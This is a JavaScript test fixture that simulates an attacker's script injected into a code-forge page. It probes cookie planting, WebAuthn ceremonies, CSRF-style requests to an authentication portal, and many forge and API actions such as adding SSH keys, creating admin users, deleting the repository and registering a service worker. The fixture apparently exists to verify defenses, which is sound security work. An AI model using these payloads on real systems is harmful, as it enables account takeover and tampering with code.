// What an attacker has planted in a page of the forge. It runs there with everything the victim's browser grants that
// page, and tries what would be worth something. It writes down what came of each try in `window.attackReport`.
// The test puts `const TARGETS = {...}` before it.
;(async () => {
  if (location.pathname !== TARGETS.repo) return
  const { portal, portalHost, host, repo, commit, branch } = TARGETS
  const report = {}
  const csrf = document.querySelector('meta[name=_csrf]').content

  const limit = (promise, ms = 4000) =>
    Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms, 'nothing came'))])
  const outcome = async (attempt) => {
    try {
      return await limit(attempt())
    } catch (error) {
      return `${error.name}: ${error.message}`
    }
  }
  const attempt = async (name, how) => {
    report[name] = await outcome(how)
  }

  // What it can do, so that the rest is no empty promise.
  await attempt('can read its page', () => document.body.innerText)
  await attempt('can read another page', async () => (await fetch(`${repo}/issues/new`)).status)
  const form = (path, fields, init = {}) =>
    fetch(path, {
      method: 'POST',
      body: new URLSearchParams({ _csrf: csrf, ...fields }),
      ...init,
    })
  await attempt('can open an issue', async () => {
    const made = await form(`${repo}/issues/new`, { title: 'planted issue', content: 'planted content' })
    return `${made.status} ${new URL(made.url).pathname}`
  })
  await attempt('can comment', async () => {
    const made = await form(`${repo}/issues/1/comments`, { content: 'planted comment' })
    return `${made.status} ${(await made.text()).includes('planted comment')}`
  })

  // Cookies.
  await attempt('document.cookie', () => document.cookie)
  await attempt('cookieStore', async () => JSON.stringify(await cookieStore.getAll()))
  await attempt('plant a portal cookie', async () => {
    // biome-ignore lint/suspicious/noDocumentCookie: an attacker's way
    document.cookie = `__Host-countersign=${'A'.repeat(43)}; Domain=${portalHost}; Path=/; Secure`
    // biome-ignore lint/suspicious/noDocumentCookie: an attacker's way
    document.cookie = `__Host-countersign=${'A'.repeat(43)}; Domain=gw.test; Path=/; Secure`
    return document.cookie
  })

  // Ceremonies: for the portal's RP ID, for this host, for what both have in common, and by default.
  const challenge = new Uint8Array(32)
  const get = (where, rpId, more = {}) =>
    where.navigator.credentials.get({
      publicKey: { challenge, timeout: 3000, userVerification: 'required', ...(rpId && { rpId }) },
      ...more,
    })
  const create = (where, id) =>
    where.navigator.credentials.create({
      publicKey: {
        challenge,
        timeout: 3000,
        rp: { name: 'Portal', ...(id && { id }) },
        user: { id: new Uint8Array(16), name: 'victim', displayName: 'victim' },
        pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
        authenticatorSelection: { residentKey: 'required', userVerification: 'required' },
      },
    })
  const kind = async (promise) => `GOT ${(await promise)?.type}`
  const popup = window.open('about:blank')
  report['popup'] = String(popup?.location.href)
  // The test plugs the victim's key in, wherever this page may reach.
  await plugKeys()
  const frame = document.body.appendChild(document.createElement('iframe'))
  frame.allow = 'publickey-credentials-get *; publickey-credentials-create *'
  const places = { page: window, frame: frame.contentWindow, ...(popup && { popup }) }
  for (const [where, place] of Object.entries(places)) {
    for (const rpId of [portalHost, host, 'gw.test', undefined]) {
      await attempt(`ceremony get ${rpId} in ${where}`, () => kind(get(place, rpId)))
      await attempt(`ceremony create ${rpId} in ${where}`, () => kind(create(place, rpId)))
    }
  }
  await attempt('ceremony get by autofill', () =>
    kind(get(window, portalHost, { mediation: 'conditional', signal: AbortSignal.timeout(1500) })),
  )

  // The portal, by every kind of request a page can make with the victim's cookies.
  const json = { 'content-type': 'application/json' }
  const asForm = { 'content-type': 'application/x-www-form-urlencoded' }
  const wants = [
    ['/approve/begin', '{"what":"git-password","of":{}}', json],
    ['/approve/begin', '{"what":"invitation","of":{"name":"mallory","email":"m@example.com"}}', json],
    ['/devices/add-ssh-key/begin', JSON.stringify(TARGETS.sshKey), json],
    [`/git-password/${TARGETS.password}/end`, '', asForm],
    [`/devices/${TARGETS.device}/rename`, 'name=mine+now', asForm],
    ['/sign-out', '', asForm],
    ['/sign-in/begin', '{}', json],
  ]
  for (const [path, body, headers] of wants) {
    for (const mode of ['cors', 'no-cors']) {
      for (const referrerPolicy of ['strict-origin', 'no-referrer']) {
        await attempt(`portal POST ${path} ${mode} ${referrerPolicy} ${body}`, async () => {
          const init = { method: 'POST', body, mode, headers, referrerPolicy, credentials: 'include' }
          const answer = await fetch(portal + path, init)
          return `ANSWER ${answer.type} ${await answer.text()}`
        })
      }
    }
    navigator.sendBeacon(portal + path, new Blob([body], { type: 'application/x-www-form-urlencoded' }))
  }
  for (const path of ['/', '/devices', '/git-password', '/people', '/ledger', '/sign-in']) {
    for (const mode of ['cors', 'no-cors']) {
      await attempt(`portal GET ${path} ${mode}`, async () => {
        const answer = await fetch(portal + path, { mode, credentials: 'include' })
        return `ANSWER ${answer.type} ${await answer.text()}`
      })
    }
  }
  const loads = (element, src) =>
    new Promise((resolve) => {
      element.onload = () => resolve('LOADED')
      element.onerror = () => resolve('error')
      element.src = src
      document.head.append(element)
    })
  await attempt('portal as script', () => loads(document.createElement('script'), `${portal}/devices`))
  await attempt('portal as image', () => loads(document.createElement('img'), `${portal}/devices`))

  const framed = document.body.appendChild(document.createElement('iframe'))
  await attempt('portal in a frame', async () => {
    const loaded = new Promise((resolve) => framed.addEventListener('load', resolve))
    framed.name = 'framed-portal'
    framed.src = `${portal}/devices`
    await loaded
    return String(framed.contentDocument?.body.innerText ?? null)
  })
  await attempt('portal in a window', async () => {
    const opened = window.open(`${portal}/devices`)
    while (opened && !opened.closed) {
      try {
        if (opened.document.body?.innerText) return opened.document.body.innerText
      } catch (error) {
        return `${error.name}: ${error.message}`
      }
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    return 'closed to its opener'
  })

  // Forms, which carry cookies and leave the page: from here, and from documents that it writes itself.
  const violation = (where) =>
    new Promise((resolve) =>
      where.addEventListener('securitypolicyviolation', (event) =>
        resolve(`blocked by ${event.effectiveDirective}`),
      ),
    )
  const send = (doc, [path, body]) => {
    const made = doc.body.appendChild(doc.createElement('form'))
    Object.assign(made, { method: 'post', action: portal + path, target: 'form-target' })
    for (const [name, value] of new URLSearchParams(body))
      made.append(Object.assign(doc.createElement('input'), { name, value }))
    made.submit()
  }
  const target = document.body.appendChild(document.createElement('iframe'))
  target.name = 'form-target'
  for (const want of wants.filter(([, , headers]) => headers === asForm)) {
    for (const [where, place] of Object.entries(places)) {
      await attempt(`form ${want[0]} in ${where}`, () => {
        const blocked = violation(place.document)
        send(place.document, want)
        return blocked
      })
    }
  }
  popup?.close()

  // Code and permissions, by every way that the forge's own pages and interfaces have.
  const file = { tree_path: 'planted.txt', content: 'planted', commit_choice: 'direct', last_commit: commit }
  const api = `/api/v1/repos${repo}`
  const changes = [
    ['POST', `${repo}/_new/${branch}`, file],
    ['POST', `${repo}/_new/${branch}/`, file],
    ['POST', `${repo}/%5fnew/${branch}`, file],
    ['POST', `${repo}.git/_new/${branch}`, file],
    ['POST', `${repo.toUpperCase()}/_new/${branch}`, file],
    ['POST', `${repo}/_edit/${branch}/README.md`, { ...file, tree_path: 'README.md' }],
    ['POST', `${repo}/_delete/${branch}/README.md`, file],
    ['POST', `${repo}/_upload/${branch}`, { tree_path: '', files: '' }],
    ['POST', `${repo}/branches/delete/topic`, { commit }],
    ['POST', `${repo}/pulls/1/merge`, { merge_style: 'create_merge_commit' }],
    ['POST', `${repo}/releases/new`, { tag_name: 'planted', tag_target: branch, title: 'planted' }],
    ['POST', `${repo}/wiki/_new`, { title: 'planted', content: 'planted' }],
    ['POST', `${repo}/settings`, { action: 'delete', repo_name: 'hello' }],
    ['POST', `${repo}/settings`, { action: 'update', repo_name: 'hello', private: '' }],
    ['POST', `${repo}/settings/collaboration`, { collaborator: 'mallory' }],
    ['POST', `${repo}/settings/keys`, { title: 'planted', content: TARGETS.sshKey.key }],
    ['POST', `${repo}/settings/branches/${branch}`, { protected: '' }],
    ['POST', `${repo}/settings/hooks/gogs/new`, { payload_url: 'http://127.0.0.1:1/', events: 'push' }],
    ['POST', `${repo}/settings/hooks/git/pre-receive`, { content: 'exit 0' }],
    ['GET', `${repo}/milestones/1/close`],
    ['PUT', `${api}/contents/planted.txt`, { message: 'planted', content: 'cGxhbnRlZA==' }],
    ['DELETE', api],
    ['POST', `${api}/branches`, {}],
    ['PUT', `${api}/collaborators/mallory`, { permission: 'admin' }],
    ['POST', `${api}/keys`, { title: 'planted', key: TARGETS.sshKey.key }],
    ['POST', `${api}/hooks`, { type: 'gogs' }],
    ['POST', '/api/v1/user/keys', { title: 'planted', key: TARGETS.sshKey.key }],
    ['POST', '/api/v1/users/keeper/tokens', { name: 'planted' }],
    ['POST', '/api/v1/admin/users', { username: 'mallory', email: 'm@example.com' }],
    ['POST', '/user/settings/applications', { name: 'planted' }],
    ['POST', '/user/settings/ssh', { title: 'planted', content: TARGETS.sshKey.key }],
    ['POST', '/user/settings/password', { password: 'planted1', retype: 'planted1' }],
    ['POST', '/user/settings/email', { email: 'm@example.com' }],
    ['POST', '/admin/users/new', { user_name: 'mallory', email: 'm@example.com', password: 'planted1' }],
    ['POST', '/repo/migrate', { clone_addr: 'http://127.0.0.1:1/', repo_name: 'planted' }],
    ['GET', `${repo}.git/info/refs?service=git-receive-pack`],
    ['POST', `${repo}.git/git-receive-pack`, TARGETS.push, 'application/x-git-receive-pack-request'],
    ['POST', `${repo}.git/info/lfs/objects/batch`, '{}', 'application/vnd.git-lfs+json'],
    ['GET', '/-/enter?code=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
  ]
  for (const [method, path, fields, type] of changes) {
    const body =
      fields === undefined
        ? {}
        : typeof fields === 'string'
          ? { body: fields, headers: { 'content-type': type, authorization: 'Basic a2VlcGVyOnBsYW50ZWQ=' } }
          : path.startsWith('/api/')
            ? { body: JSON.stringify(fields), headers: { ...json, 'x-csrf-token': csrf } }
            : { body: new URLSearchParams({ _csrf: csrf, ...fields }), headers: { 'x-csrf-token': csrf } }
    await attempt(`change ${method} ${path} ${fields?.action ?? ''}`, async () => {
      // git's door knows no cookie, and its question for a password would stop this script in a dialog.
      const credentials = /\.git\/(?:info\/refs|git-)/.test(path) ? 'omit' : 'include'
      const answer = await fetch(path, { method, credentials, redirect: 'manual', ...body })
      return `${answer.status} ${answer.type} ${(await answer.text()).slice(0, 200)}`
    })
  }
  // A request that a proxy or a framework may read as another.
  for (const [name, init] of Object.entries({
    'method field': { body: new URLSearchParams({ _csrf: csrf, _method: 'PUT', ...file }) },
    'method header': { body: '{}', headers: { ...json, 'x-http-method-override': 'PUT' } },
    'original url': { body: '{}', headers: { ...json, 'x-original-url': `${api}/contents/planted.txt` } },
  })) {
    await attempt(`change by ${name}`, async () => {
      const answer = await fetch(`${api}/contents/planted.txt`, { method: 'POST', ...init })
      return `${answer.status} ${answer.type} ${(await answer.text()).slice(0, 200)}`
    })
  }

  // Something that stays after the page is gone.
  for (const path of [
    `${repo}/raw/${branch}/README.md`,
    TARGETS.asset,
    '/sw.js',
    `${repo}/raw/topic/sw.js`,
  ]) {
    await attempt(`service worker ${path}`, async () => {
      await navigator.serviceWorker.register(path)
      return 'REGISTERED'
    })
  }
  await attempt('service workers', async () =>
    String((await navigator.serviceWorker.getRegistrations()).length),
  )
  window.attackReport = report
})()
